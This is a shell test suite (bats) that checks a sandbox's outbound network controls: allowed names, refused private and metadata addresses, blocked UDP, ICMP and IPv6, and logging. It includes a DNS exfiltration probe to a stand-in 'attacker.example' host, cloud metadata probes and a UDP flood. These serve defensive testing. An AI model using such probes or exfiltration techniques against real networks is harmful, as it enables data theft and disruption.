# users: root user
# The network: what gets out by name, and what does not even under the preset that denies nothing.
# Servers on the host's loopback stand for the world (--resolve allows them by name), and are the
# positive control of every refusal. Rules are in network.bats.
# shellcheck disable=SC2154,SC2016

load lib

setup_file() {
	e2e_begin net
	mkdir "$E2E/ws/app" "$E2E/web"
	echo 'from the web' > "$E2E/web/page"
	head -c 1000000 /dev/zero > "$E2E/web/large"
	make_ca files.test
	serve web --dir "$E2E/web"
	serve tls --dir "$E2E/web" --tls "$E2E/ca/leaf.pem" "$E2E/ca/leaf.key"
	serve_git_over_ssh
	serve_command redis redis-server --port PORT --bind 127.0.0.1 --save '' --dir "$E2E/tmp"
	serve_quic
	make_box net --network open --resolve "git.test:22:127.0.0.1:$ssh_port" \
		--resolve "cache.test:6379:127.0.0.1:$redis_port" --resolve "files.test:4433:127.0.0.1:$quic_port" \
		--resolve "files.test:80:127.0.0.1:$web_port" \
		--resolve "files.test:443:127.0.0.1:$tls_port" \
		--resolve "files.test:9418:127.0.0.1:$web_port" "$E2E/ws/app"
	cat > "$E2E/ws/app/try.py" <<-'PY'
		# try.py HOST:PORT...: what becomes of a TCP connection and a request on it, and when.
		import socket, sys, time
		def what(host, port):
		    try:
		        s = socket.create_connection((host, int(port)), 20)
		        s.sendall(f"GET /page HTTP/1.0\r\nHost: {host}:{port}\r\n\r\n".encode())
		        answer = s.recv(100)
		        return "answered" if answer and b" 403 " not in answer[:13] else "refused"
		    except TimeoutError:
		        return "silence"
		    except OSError:
		        return "refused"
		for word in sys.argv[1:]:
		    start = time.monotonic()
		    w = what(*word.rsplit(":", 1))
		    print(word, w, "at once" if time.monotonic() - start < 5 else "late")
	PY
}

# OpenSSH's server, of nobody but who runs the tests. It wants a folder of root's in /run.
serve_git_over_ssh() {
	local dir=$E2E/ssh
	mkdir -p "$dir" "$E2E/ws/app/.ssh"
	ssh-keygen -q -t ed25519 -N '' -f "$dir/host"
	ssh-keygen -q -t ed25519 -N '' -f "$E2E/ws/app/.ssh/key"
	cp "$E2E/ws/app/.ssh/key.pub" "$dir/authorized"
	cat > "$dir/sshd.sh" <<-'SH'
		run="/usr/sbin/sshd -D -e -f /dev/null -p $1 -h $2/host -o ListenAddress=127.0.0.1 -o PidFile=none
			-o StrictModes=no -o UsePAM=no -o AuthorizedKeysFile=$2/authorized -o PermitRootLogin=prohibit-password"
		[ "$(id -u)" = 0 ] || exec $run
		exec unshare --mount sh -c "mount -t tmpfs tmpfs /run && mkdir -m 0755 /run/sshd && exec $(echo $run)"
	SH
	serve_command ssh sh "$dir/sshd.sh" PORT "$dir"
	echo "git.test $(cut -d' ' -f1,2 "$dir/host.pub")" > "$E2E/ws/app/.ssh/known"
}

# HTTP/3, of the package ngtcp2-server.
serve_quic() {
	quic_port=$(python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
	/usr/sbin/gtlsserver -q -d "$E2E/web" 127.0.0.1 "$quic_port" "$E2E/ca/leaf.key" "$E2E/ca/leaf.pem" \
		</dev/null >"$E2E/quic.out" 2>&1 3>&- &
	echo $! >> "$E2E/servers"
}

teardown_file() {
	e2e_end
}

tries() {
	in_box net 'python3 try.py "$@"' "$@"
}

# refused HOST:PORT...: at once, and nothing came. Beside them, what is allowed works.
refused() {
	local all
	all=$(tries "$@")
	equal "$(grep -v ' refused at once$' <<< "$all" || :)" ""
	equal "$(wc -l <<< "$all")" $#
	answered
}

answered() {
	equal "$(tries files.test:80)" "files.test:80 answered at once"
}

hits() {
	cat "$E2E/web.log" "$E2E/tls.log" | wc -l
}

@test "control: a name that is allowed is reached, by plain HTTP and by TLS" {
	equal "$(in_box net 'curl -sS -m 20 http://files.test/page')" "from the web"
	equal "$(in_box net 'curl -sS -m 20 https://files.test/page')" "from the web"
	answered
	equal "$(in_box net 'wget -qO - http://files.test/page')" "from the web"
	# The server sees the host, not the sandbox's own addresses.
	equal "$(in_box net 'curl -sS -m 20 http://files.test/whoami')" 127.0.0.1
}

@test "the host's certificates are inside: every client trusts what the host trusts" {
	equal "$(in_box net 'python3 -c "
import urllib.request
print(urllib.request.urlopen(\"https://files.test/page\", timeout=20).read().decode().strip())"')" "from the web"
	equal "$(in_box net 'node -e "
fetch(\"https://files.test/page\").then(r => r.text()).then(t => console.log(t.trim()))"')" "from the web"
	equal "$(in_box_root net 'curl -sS -m 20 https://files.test/page')" "from the web"
	in_box net 'openssl version >/dev/null 2>&1 && openssl s_client -connect files.test:443 -brief </dev/null 2>&1 | grep "Verification: OK" || :'
	# And nothing else: another authority's leaf is refused (control: --insecure reads it).
	run in_box net 'curl -sS -m 20 --cacert /dev/null https://files.test/page'
	[ "$status" != 0 ]
	equal "$(in_box net 'curl -sSk -m 20 https://files.test/page')" "from the web"
}

@test "large transfers both ways arrive whole" {
	equal "$(in_box net 'curl -sS -m 100 http://files.test/bytes/8000000 | wc -c')" 8000000
	equal "$(in_box net 'head -c 2000000 /dev/zero | curl -sS -m 100 --data-binary @- http://files.test/echo | wc -c')" 2000000
	equal "$(in_box net 'for i in $(seq 10); do curl -sS -m 60 http://files.test/bytes/10000 | wc -c & done; wait' | sort | uniq -c | tr -s ' ')" " 10 10000"
}

@test "git clone" {
	git init -q --bare "$E2E/web/repo.git"
	git clone -q "$E2E/web/repo.git" "$E2E/web/work" 2>/dev/null
	(cd "$E2E/web/work" && echo x > x && git add x && git commit -qm first && git push -q origin HEAD:main)
	git -C "$E2E/web/repo.git" update-server-info
	in_box net 'git clone -q https://files.test/repo.git clone && cd clone && git log --format="%s by %an"' > "$E2E/tmp/log"
	equal "$(cat "$E2E/tmp/log")" "first by Mina Härtel"
	rm "$E2E/tmp/log"
}

@test "git over SSH, and Redis: any protocol to a host by its name" {
	local url
	url=ssh://$(id -un)@git.test$E2E/web/repo.git
	in_box net 'cp -r .ssh/key /tmp/key && chmod 600 /tmp/key && export GIT_SSH_COMMAND="ssh -i /tmp/key -o IdentitiesOnly=yes -o UserKnownHostsFile=$PWD/.ssh/known" &&
		git clone -q "$1" by-ssh && cd by-ssh && echo more > more && git add more && git commit -qm second && git push -q origin HEAD:main' "$url"
	equal "$(git -C "$E2E/web/repo.git" log --format=%s main | paste -sd' ')" "second first"
	equal "$(in_box net 'exec 9<>/dev/tcp/cache.test/6379; printf "SET word kept\r\nGET word\r\nQUIT\r\n" >&9; cat <&9' | tr -d '\r' | paste -sd' ')" \
		'+OK $4 kept +OK'
	# Another port of the same hosts is another destination (the preset allows it, nobody is there).
	refused git.test:23 cache.test:6380
}

@test "pip installs from an index" {
	mkdir -p "$E2E/web/simple/tinypkg"
	python3 - "$E2E/web/simple/tinypkg/tinypkg-1.0-py3-none-any.whl" <<-'PY'
		import sys, zipfile
		with zipfile.ZipFile(sys.argv[1], "w") as z:
		    z.writestr("tinypkg.py", "word = 'installed by pip'\n")
		    z.writestr("tinypkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n")
		    z.writestr("tinypkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
		    z.writestr("tinypkg-1.0.dist-info/RECORD", "")
	PY
	in_box net 'pip install -q --root-user-action=ignore --index-url https://files.test/simple tinypkg >&2'
	equal "$(in_box net 'python3 -c "import tinypkg; print(tinypkg.word)"')" "installed by pip"
}

@test "apt installs from a repository over HTTPS" {
	local dir=$E2E/web/apt deb=tiny_1.0_all.deb
	mkdir -p "$dir" "$E2E/deb/DEBIAN" "$E2E/deb/usr/share/tiny"
	echo 'installed by apt' > "$E2E/deb/usr/share/tiny/word"
	printf 'Package: tiny\nVersion: 1.0\nArchitecture: all\nMaintainer: nobody <nobody@example.org>\nDescription: tiny\n' \
		> "$E2E/deb/DEBIAN/control"
	dpkg-deb --root-owner-group --build "$E2E/deb" "$dir/$deb" >/dev/null
	{
		cat "$E2E/deb/DEBIAN/control"
		printf 'Filename: ./%s\nSize: %s\nSHA256: %s\n' "$deb" "$(stat -c %s "$dir/$deb")" "$(sha256sum < "$dir/$deb" | cut -d' ' -f1)"
	} > "$dir/Packages"
	equal "$(in_box_root net 'echo "deb [trusted=yes] https://files.test/apt ./" > /tmp/tiny.list
		only="-o Dir::Etc::sourcelist=/tmp/tiny.list -o Dir::Etc::sourceparts=-"
		{ apt-get -qq $only update && apt-get -qq $only install -y tiny; } >&2 && cat /usr/share/tiny/word')" "installed by apt"
}

@test "npm install from the registry" {
	local registry
	registry=$(HOME=$BATS_TEST_TMPDIR npm config get registry 2>/dev/null) || registry=
	pd exec -q ${registry:+-e npm_config_registry="$registry"} net sh -c \
		'mkdir -p js && cd js && echo {} > package.json && npm install --silent is-number >&2 && node -p "require(\"is-number\")(5)"' \
		> "$E2E/tmp/npm"
	equal "$(cat "$E2E/tmp/npm")" true
	rm "$E2E/tmp/npm"
}

@test "names: every A is an address of ours, no AAAA, one name one address, by UDP and TCP" {
	local first
	first=$(in_box net 'getent ahostsv4 files.test | head -n 1 | cut -d" " -f1')
	[[ $first =~ ^198\.1[89]\. ]]
	equal "$(in_box net 'getent ahostsv4 FILES.test. | head -n 1 | cut -d" " -f1')" "$first"
	[[ $(in_box net 'getent ahostsv4 no-such-name.example | head -n 1') =~ ^198\.1[89]\. ]]
	[ "$(in_box net 'getent ahostsv4 other.test | head -n 1 | cut -d" " -f1')" != "$first" ]
	equal "$(in_box net 'getent ahostsv6 files.test | grep -vc ::ffff: || :')" 0
	equal "$(in_box net 'cat /etc/resolv.conf | grep -c "^nameserver 198.18.0.1$"')" 1
}

@test "whatever server is asked, by raw DNS: ours answers" {
	cat > "$E2E/ws/app/dns.py" <<-'PY'
		# dns.py SERVER NAME udp|tcp: the A record, asked without the system's resolver.
		import socket, struct, sys
		q = struct.pack(">6H", 0x1234, 0x100, 1, 0, 0, 0)
		for label in sys.argv[2].split("."): q += bytes([len(label)]) + label.encode()
		q += b"\0" + struct.pack(">2H", 1, 1)
		if sys.argv[3] == "udp":
		    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
		    s.connect((sys.argv[1], 53)); s.send(q); a = s.recv(1500)
		else:
		    s = socket.create_connection((sys.argv[1], 53), 10)
		    s.sendall(struct.pack(">H", len(q)) + q); a = s.recv(1500)[2:]
		assert a[:2] == q[:2] and a[2] & 0x80
		print("rcode", a[3] & 15, ".".join(map(str, a[-4:])) if a[7] else "no answer")
	PY
	local fake server
	fake=$(in_box net 'getent ahostsv4 files.test | head -n 1 | cut -d" " -f1')
	for server in 198.18.0.1 8.8.8.8 1.1.1.1 192.168.1.1; do
		equal "$(in_box net 'python3 dns.py "$1" files.test udp' "$server")" "rcode 0 $fake"
	done
	equal "$(in_box net 'python3 dns.py 198.18.0.1 files.test tcp')" "rcode 0 $fake"
	# What only the host knows stays there: no question of the guest's leaves the machine, so even
	# a name with data in it is just a name.
	[[ $(in_box net 'python3 dns.py 8.8.8.8 secret-data-in-a-name.attacker.example udp') == "rcode 0 198.1"* ]]
}

@test "addresses that are nobody's business are refused at once" {
	local before where words=()
	before=$(hits)
	for where in 10.0.0.1 172.16.0.1 172.31.255.254 192.168.0.1 192.168.1.1 100.64.0.1 \
		169.254.169.254 169.254.1.1 168.63.129.16 0.0.0.1 198.18.0.1 198.19.255.254 \
		224.0.0.1 240.0.0.1 255.255.255.255; do
		words+=("$where:80" "$where:$web_port")
	done
	refused "${words[@]}"
	equal "$(hits)" $((before + 1)) # the one that was allowed
}

@test "names that lead there are refused too" {
	local before name words=()
	before=$(hits)
	# Asked of our DNS by hand: the guest's own /etc/hosts knows some of them.
	for name in localhost ip6-localhost "$(hostname)"; do
		[[ $name =~ ^[a-z0-9.-]+$ ]] || continue
		words+=("$(in_box net 'python3 dns.py 198.18.0.1 "$1" udp' "$name" | cut -d' ' -f3):$web_port")
	done
	# A name is allowed for the port that --resolve names, and no other.
	refused "${words[@]}" files.test:81 "files.test:$web_port"
	equal "$(hits)" $((before + 1))
}

@test "the host's own ports are not behind the gateway, nor behind host.docker.internal" {
	local where port words=()
	for where in 198.18.0.1 host.docker.internal; do
		for port in "$web_port" "$tls_port" 22 631; do
			words+=("$where:$port")
		done
	done
	refused "${words[@]}"
	# Control: the host itself reaches it.
	exec 9<>"/dev/tcp/127.0.0.1/$web_port"
	exec 9>&-
}

@test "UDP, ICMP, other protocols and IPv6 do not get out, and say so at once" {
	in_box_root net 'python3 - <<PY
import errno, socket, time
def refused(what, f):
    start = time.monotonic()
    try:
        f()
    except (ConnectionRefusedError, PermissionError): pass
    except OSError as e:
        if e.errno not in (errno.EHOSTUNREACH, errno.ENETUNREACH, errno.EACCES, errno.ENOPROTOOPT, errno.EPROTO, errno.EPROTONOSUPPORT, errno.ECONNREFUSED):
            raise SystemExit(f"{what}: {e}")
    else:
        raise SystemExit(f"{what}: went out")
    if time.monotonic() - start > 5: raise SystemExit(f"{what}: late")
def udp(host, port):
    def f():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
        s.connect((host, port)); s.send(b"x"); s.recv(10)
    return f
for host in ("8.8.8.8", "192.168.1.1", "files.test"):
    for port in (123, 443, 853, 40000): refused(f"udp {host} {port}", udp(host, port))
def tcp6():
    socket.create_connection(("2001:4860:4860::8888", 443), 10)
refused("tcp6", tcp6)
def raw(proto):
    def f():
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, proto); s.settimeout(3)
        s.setsockopt(socket.SOL_IP, 11, 1)  # IP_RECVERR
        s.connect(("8.8.8.8", 0)); s.send(b"x" * 32); s.recv(100)
    return f
# (Of protocols that it does not know the kernel rejects nothing, but drops.)
for proto in (47, 50, 132): refused(f"protocol {proto}", raw(proto))
PY'
	run in_box net 'ping -c 1 -W 5 8.8.8.8'
	[ "$status" != 0 ]
	has "$output" "100% packet loss"
	# Control: the gateway answers.
	in_box net 'ping -c 1 -W 5 198.18.0.1 >/dev/null'
}

@test "what is refused is in the log: UDP, ICMP, other protocols; a flood as sums" {
	pd network log net --json > "$E2E/tmp/log"
	logged() { # KIND HOST PORT REASON
		pd network log net --json > "$E2E/tmp/log"
		jq -se --arg k "$1" --arg h "$2" --argjson p "$3" --arg r "$4" 'any(.[]; .type == $k and
			.host == $h and (.port // 0) == $p and .decision == "blocked" and (.reason | contains($r)))' \
			"$E2E/tmp/log" > /dev/null
	}
	# The test before this one has sent them.
	wait_until 20 logged udp 8.8.8.8 853 "denied by default"
	wait_until 20 logged udp files.test 443 "denied by default"
	wait_until 20 logged icmp 8.8.8.8 0 "ICMP is not carried (type 8)"
	wait_until 20 logged other 8.8.8.8 0 "SCTP is not carried"
	in_box net 'python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(30000): s.sendto(b\"flood\", (\"203.0.113.7\", 9))
s.sendto(b\"last\", (\"203.0.113.8\", 9))"'
	wait_until 20 logged udp 203.0.113.8 9 "denied by default"
	wait_until 20 logged udp 203.0.113.7 9 "denied by default"
	at_most "$(jq -s '[.[] | select(.host == "203.0.113.7")] | length' "$E2E/tmp/log")" 2500 "records of a flood"
	many() {
		[ "$(pd network log net --json | jq -s '[.[] | select(.host == "203.0.113.7") | .count // 1] | add')" -gt 5000 ]
	}
	wait_until 20 many
	rm "$E2E/tmp/log"
	answered
}

@test "--allow-udp opens one host and port, live, and for good; QUIC's kind of traffic goes both ways" {
	serve_udp echo
	cat > "$E2E/ws/app/udp.py" <<-'PY'
		# udp.py HOST PORT SIZE...: datagrams there, one after the other, and back
		import socket, sys
		s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
		s.connect((sys.argv[1], int(sys.argv[2])))
		try:
		    for size in map(int, sys.argv[3:]):
		        for attempt in range(4):
		            try:
		                s.send(b"u" * size)
		                assert s.recv(70000) == b"u" * size
		                break
		            except TimeoutError: pass
		        else: raise SystemExit("silence")
		    print("carried")
		except ConnectionRefusedError: print("refused")
	PY
	make_box udp --network locked --resolve "quic.test:4433:127.0.0.1:$echo_port" "$E2E/ws/app"
	equal "$(in_box udp 'python3 udp.py quic.test 4433 5')" refused
	pd network proxy udp --allow-udp quic.test:4433
	has "$(pd network ls udp)" quic.test:4433/udp
	equal "$(in_box udp 'python3 udp.py quic.test 4433 5 0 1200 1452 4000')" carried
	# Neither another port, nor another name, nor an address.
	equal "$(in_box udp 'python3 udp.py quic.test 4434 5')" refused
	equal "$(in_box udp 'python3 udp.py other.test 4433 5')" refused
	equal "$(in_box udp "python3 udp.py 127.0.0.9 4433 5; python3 udp.py 192.0.2.1 4433 5")" $'refused\nrefused'
	# In the log, with its bytes, once the policy has cut it.
	pd network rm udp quic.test:4433/udp
	equal "$(in_box udp 'python3 udp.py quic.test 4433 5')" refused
	pd network log udp --json > "$E2E/tmp/log"
	jq -se 'any(.[]; .type == "udp" and .host == "quic.test" and .decision == "allowed" and
		.bytes_up == 6657 and .bytes_down == 6657)' "$E2E/tmp/log" > /dev/null || { cat "$E2E/tmp/log" >&2; return 1; }
	rm "$E2E/tmp/log"
	# Rules last: over a new net role, and over stop and start.
	pd network allow udp quic.test:4433/udp
	kill_hard "$(role_pid udp net)"
	again() { [ "$(in_box udp 'python3 udp.py quic.test 4433 9')" = carried ]; }
	wait_until 60 again
	pd stop udp
	equal "$(in_box udp 'python3 udp.py quic.test 4433 9')" carried
	pd rm -f udp
}

@test "HTTP/3 by curl, where a rule opens its UDP" {
	run in_box net 'curl -sS -m 20 --http3-only https://files.test:4433/page'
	[ "$status" != 0 ] && [ "$status" != 28 ]
	pd network proxy net --allow-udp files.test:4433
	equal "$(in_box net 'curl -sS -m 60 --http3-only -w "%{http_version}\n" https://files.test:4433/page')" "from the web
3"
	equal "$(in_box net 'curl -sS -m 60 --http3-only https://files.test:4433/large | wc -c')" 1000000
	pd network rm net files.test:4433/udp
}

@test "frames of other senders go nowhere" {
	in_box_root net 'ip addr add 198.18.0.3/30 dev eth0 2>/dev/null; ip addr add 10.1.2.3/24 dev eth0
		python3 -c "
import socket
s = socket.socket(); s.settimeout(4); s.bind((\"10.1.2.3\", 0))
try: s.connect((\"198.18.0.1\", 80)); print(\"connected\")
except OSError: print(\"nothing\")
"; ip addr del 10.1.2.3/24 dev eth0' > "$E2E/tmp/out"
	equal "$(cat "$E2E/tmp/out")" nothing
	rm "$E2E/tmp/out"
	answered
}

@test "many connections at once cost themselves, not the sandbox" {
	in_box_root net 'python3 - <<PY
import socket
open_ = []
for i in range(3000):
    s = socket.socket(); s.setblocking(False)
    try: s.connect(("files.test" if False else "10.9.8.7", 80))
    except BlockingIOError: pass
    except OSError: break
    open_.append(s)
print(len(open_))
PY' > /dev/null
	works() { [[ $(tries files.test:80) == *answered* ]]; }
	wait_until 60 works
	equal "$(box_status net)" running
}
